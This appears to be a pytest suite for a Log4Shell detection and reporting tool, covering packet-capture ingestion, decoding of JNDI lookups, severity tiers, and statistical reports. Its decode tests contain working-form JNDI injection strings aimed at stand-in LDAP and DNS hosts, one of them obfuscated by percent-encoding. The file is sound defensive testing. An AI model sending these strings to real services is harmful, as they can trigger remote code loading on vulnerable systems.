import csv
import dataclasses
import json
import random
from datetime import date

import pytest

from jndiscope.cli import main
from jndiscope.ingest import write_capture
from jndiscope.pipeline import ConfigError, RunConfig, load_config_file, make_config, run_pipeline
from jndiscope.records import load_records, write_records
from synth import TABLE_ONE, build_fixture, random_records, table_one_counts, write_geo


@pytest.fixture()
def capture(tmp_path):
    path = tmp_path / "cap.pcap"
    ledger = build_fixture(path)
    geo = tmp_path / "geo.csv"
    write_geo(geo)
    return path, geo, ledger


def rows(path):
    with open(path, newline="") as fp:
        return list(csv.reader(fp))


# -- run -----------------------------------------------------------------------

def test_run_matches_fixture_ledger(capture, tmp_path, capsys):
    pcap, geo, ledger = capture
    out = tmp_path / "out"
    assert main(["run", "--input", str(pcap), "--geo-db", str(geo), "--out", str(out)]) == 0
    summary = json.loads((out / "summary.json").read_text())
    assert summary["packets_read"] == ledger.packets
    assert summary["skipped_non_tcp"] == ledger.non_tcp
    assert summary["connections"] == ledger.connections
    assert summary["payload_connections"] == ledger.payload_connections
    assert summary["detections"] == ledger.detections
    assert summary["severity"] == ledger.severity
    assert summary["obfuscated"] == ledger.obfuscated
    assert summary["detections_by_tier"] == ledger.tiers
    assert sum(summary["severity"].values()) == summary["detections"]
    assert not (out / "INCOMPLETE").exists()
    assert (out / "figures" / "daily_incidence.png").stat().st_size > 0
    recs, errors = load_records([out / "detections.jsonl"])
    assert len(recs) == ledger.detections and not errors
    assert {r.src_country for r in recs} == {"DE", "US"}
    assert "detections=3" in capsys.readouterr().out


def test_daily_incidence_file(capture, tmp_path):
    pcap, _, _ = capture
    out = tmp_path / "o"
    main(["run", "--input", str(pcap), "--out", str(out), "--no-figures"])
    assert rows(out / "daily_incidence.csv") == [["date", "detections"], ["2022-04-15", "2"], ["2022-04-16", "1"]]
    assert not (out / "figures").exists()


def test_run_is_deterministic(capture, tmp_path):
    pcap, geo, _ = capture
    for name in ("a", "b"):
        main(["run", "--input", str(pcap), "--geo-db", str(geo), "--out", str(tmp_path / name), "--no-figures"])
    assert (tmp_path / "a" / "detections.jsonl").read_bytes() == (tmp_path / "b" / "detections.jsonl").read_bytes()


def test_empty_capture_zero_summary(tmp_path):
    pcap = tmp_path / "empty.pcap"
    write_capture(pcap, [])
    assert main(["run", "--input", str(pcap), "--out", str(tmp_path / "o")]) == 0
    summary = json.loads((tmp_path / "o" / "summary.json").read_text())
    assert summary["packets_read"] == 0 and summary["detections"] == 0


def test_missing_geo_table_is_data_error(capture, tmp_path):
    pcap, _, _ = capture
    assert main(["run", "--input", str(pcap), "--geo-db", str(tmp_path / "nope.csv"), "--out", str(tmp_path)]) == 2


def test_bad_capture_is_data_error_and_marks_output(tmp_path):
    bad = tmp_path / "bad.pcap"
    bad.write_bytes(b"garbage" * 10)
    out = tmp_path / "o"
    assert main(["run", "--input", str(bad), "--out", str(out)]) == 2
    assert (out / "INCOMPLETE").exists()


def test_usage_errors_exit_1(tmp_path):
    assert main(["run", "--out", str(tmp_path)]) == 1  # no inputs
    with pytest.raises(SystemExit) as info:
        main(["run", "--session-gap", "soon"])
    assert info.value.code == 1
    with pytest.raises(SystemExit) as info:
        main([])
    assert info.value.code == 1


def test_config_file_and_flag_override(capture, tmp_path):
    pcap, geo, _ = capture
    cfg_path = tmp_path / "run.conf"
    cfg_path.write_text(f"# comment\ninput = {pcap}\ngeo_db = {geo}\ntz = +02:00\nout = {tmp_path / 'cfgout'}\n"
                        "session_gap = 120\nl2_hosts = interact.sh, mycanary\n")
    values = load_config_file(cfg_path)
    cfg = make_config(values, tz="UTC")
    assert cfg.tz == "UTC" and cfg.session_gap == 120.0 and cfg.l2_hosts == ("interact.sh", "mycanary")
    assert main(["run", "--config", str(cfg_path), "--no-figures"]) == 0
    assert (tmp_path / "cfgout" / "detections.jsonl").exists()


@pytest.mark.parametrize("text", ["bogus_key = 1\n", "session_gap = soon\n", "no equals sign\n"])
def test_config_file_errors(tmp_path, text):
    p = tmp_path / "c.conf"
    p.write_text(text)
    with pytest.raises(ConfigError):
        load_config_file(p)


@pytest.mark.parametrize("kwargs", [{"session_gap": 0}, {"max_depth": -1}, {"threshold": 150}, {"tz": "Nowhere/X"}])
def test_config_validation(kwargs):
    with pytest.raises(ConfigError):
        make_config(**kwargs)


def test_run_pipeline_api(capture, tmp_path):
    pcap, _, ledger = capture
    summary, detections = run_pipeline(RunConfig(inputs=[pcap], out=tmp_path / "api"))
    assert summary.detections == len(detections) == ledger.detections
    assert set(summary.stage_seconds) == {"geo", "ingest", "reassemble", "decode_detect", "export"}


# -- decode ----------------------------------------------------------------------

def decode_json(capsys, argv):
    assert main(["decode", *argv]) == 0
    return json.loads(capsys.readouterr().out)


def test_decode_canonical(capsys):
    led = decode_json(capsys, ["--text", "${jndi:ldap://10.0.0.1/a}"])
    assert led["verdict"]["detected"] and led["verdict"]["severity"] == "L4"
    assert led["candidates"][0]["transforms"] == []


def test_decode_percent_chain(capsys):
    led = decode_json(capsys, ["--text", "%25%24%257Bjndi%253Aldap%253A%252F%252F10.0.0.1%252Fa%257D"])
    assert led["verdict"]["detected"] and led["verdict"]["obfuscated"]
    assert any(c["transforms"] == ["url", "url"] for c in led["candidates"])


def test_decode_random_bytes_file(tmp_path, capsys):
    p = tmp_path / "r.bin"
    p.write_bytes(bytes(random.Random(0).randrange(256) for _ in range(64)))
    assert decode_json(capsys, [str(p)])["verdict"] == {"detected": False}


def test_decode_hex_and_stdin(monkeypatch, capsys):
    import io
    import sys
    hex_text = "${jndi:dns://x.example/a}".encode().hex()
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(hex_text.encode())))
    led = decode_json(capsys, ["-", "--hex"])
    assert led["verdict"]["severity"] == "L3"


def test_decode_errors(tmp_path):
    assert main(["decode", str(tmp_path / "missing")]) == 2
    assert main(["decode", "--text", ""]) == 2
    assert main(["decode", "--text", "zz", "--hex"]) == 2
    assert main(["decode"]) == 1


# -- reports -----------------------------------------------------------------------

@pytest.fixture()
def records_file(tmp_path):
    path = tmp_path / "det.jsonl"
    write_records(path, random_records(random.Random(11), 400))
    return path


def test_report_shares(records_file, tmp_path):
    out = tmp_path / "rep"
    assert main(["report", "shares", str(records_file), "--out", str(out), "--period", "year"]) == 0
    for dim in ("scanner_country", "host_country", "dst_port", "protocol", "asn"):
        table = rows(out / f"shares_{dim}.csv")[1:]
        for period in {r[0] for r in table}:
            assert abs(sum(float(r[3]) for r in table if r[0] == period) - 100) < 1e-6
    assert rows(out / "series" / "shares_scanner_country_2022.csv")[0] == ["x", "y"]
    assert (out / "figures" / "shares_asn_2023.png").exists()


def test_report_infra(records_file, tmp_path):
    out = tmp_path / "rep"
    assert main(["report", "infra", str(records_file), "--out", str(out)]) == 0
    hosts = rows(out / "callback_hosts.csv")[1:]
    matrix = rows(out / "lifetime_volume.csv")[1:]
    assert sum(int(v) for r in matrix for v in r[1:]) == len(hosts)
    cum = [int(r[1]) for r in rows(out / "series" / "cumulative_scanners.csv")[1:]]
    assert cum == sorted(cum)
    for name in ("lifetime_volume", "reuse_by_lifetime", "cumulative_unique", "scanner_host_matrix"):
        assert (out / "figures" / f"{name}.png").exists()


def test_report_infra_bad_edges(records_file, tmp_path):
    assert main(["report", "infra", str(records_file), "--out", str(tmp_path), "--lifetime-edges", "5,2"]) == 1


def test_report_monthly_two_days(tmp_path):
    recs = random_records(random.Random(5), 2)
    recs[0].date = recs[0].date.replace(year=2022, month=3, day=1)
    recs[1].date = recs[1].date.replace(year=2022, month=3, day=2)
    path = tmp_path / "d.jsonl"
    write_records(path, recs)
    out = tmp_path / "rep"
    assert main(["report", "monthly", str(path), "--out", str(out), "--no-figures"]) == 0
    assert len(rows(out / "daily_incidence.csv")) == 3


def test_report_monthly_year_summary(records_file, tmp_path):
    out = tmp_path / "rep"
    assert main(["report", "monthly", str(records_file), "--out", str(out)]) == 0
    summary = rows(out / "year_summary.csv")
    assert summary[0] == ["year", "t", "total", "p_hat_1", "m_star", "p_hat_m_star", "a_v"]
    assert [r[0] for r in summary[1:]] == ["2022", "2023", "2024", "2025"]
    assert (out / "figures" / "cumulative_share.png").exists()


def test_monthly_summary_feeds_fit(tmp_path):
    base = random_records(random.Random(9), 1)[0]
    recs = []
    for year in sorted(TABLE_ONE):
        for month, n in enumerate(table_one_counts(year), 1):
            recs += [dataclasses.replace(base, date=date(year, month, 1))] * n
    path = tmp_path / "d.jsonl"
    write_records(path, recs)
    out = tmp_path / "rep"
    assert main(["report", "monthly", str(path), "--out", str(out), "--no-figures"]) == 0
    slopes = [float(r[6]) for r in rows(out / "year_summary.csv")[1:]]
    assert slopes == pytest.approx([v[3] for v in TABLE_ONE.values()], abs=0.05)
    assert main(["report", "fit", "--summary", str(out / "year_summary.csv"), "--out", str(out), "--no-figures"]) == 0
    assert float(rows(out / "fit.csv")[1][1]) == pytest.approx(37.7, rel=0.05)


def test_report_fit_on_table_slopes(tmp_path, capsys):
    out = tmp_path / "fit"
    assert main(["report", "fit", "--slopes", "9.1,16.9,24.5,31.1", "--p-hat-1", "15.3", "--out", str(out)]) == 0
    params = {r[0]: float(r[1]) for r in rows(out / "fit.csv")[1:4]}
    assert params["L"] == pytest.approx(37.7, rel=0.05)
    assert params["k"] == pytest.approx(0.886, rel=0.05)
    assert params["t0"] == pytest.approx(2.263, rel=0.05)
    pred = rows(out / "prediction.csv")
    assert pred[0][-1] == "degenerate" and float(pred[1][0]) == 6
    assert (out / "figures" / "fit.png").exists()
    assert "L=37." in capsys.readouterr().out


def test_report_fit_failure_writes_trace(tmp_path):
    out = tmp_path / "fit"
    assert main(["report", "fit", "--slopes", "30,20,10,5", "--out", str(out)]) == 2
    assert json.loads((out / "fit_trace.json").read_text())


def test_report_fit_needs_input(tmp_path):
    assert main(["report", "fit", "--out", str(tmp_path)]) == 1


def test_report_correlate_identical(tmp_path, capsys):
    a = tmp_path / "a.csv"
    a.write_text("day,count\n2022-01-01,3\n2022-01-02,5\n2022-01-03,4\n2022-01-04,9\n")
    out = tmp_path / "c"
    assert main(["report", "correlate", str(a), str(a), "--out", str(out)]) == 0
    r = rows(out / "correlation.csv")[1]
    assert float(r[0]) == pytest.approx(1.0) and r[2] == "4"
    assert "r=1.000000" in capsys.readouterr().out


def test_report_correlate_inline_and_errors(tmp_path):
    assert main(["report", "correlate", "--a", "1,2,3,4", "--b", "2,1,4,3", "--out", str(tmp_path)]) == 0
    assert float(rows(tmp_path / "correlation.csv")[1][0]) == pytest.approx(0.6)
    assert main(["report", "correlate", "--a", "1,1,1", "--b", "1,2,3", "--out", str(tmp_path)]) == 2
    assert main(["report", "correlate", "--out", str(tmp_path)]) == 1


def test_report_skips_malformed_lines(records_file, tmp_path, capsys):
    with open(records_file, "a") as fp:
        fp.write("{broken\n")
    assert main(["report", "shares", str(records_file), "--out", str(tmp_path / "r"), "--no-figures"]) == 0
    assert "skipped 1 malformed" in capsys.readouterr().err


def test_report_missing_records(tmp_path):
    assert main(["report", "shares", str(tmp_path / "nope.jsonl"), "--out", str(tmp_path)]) == 2
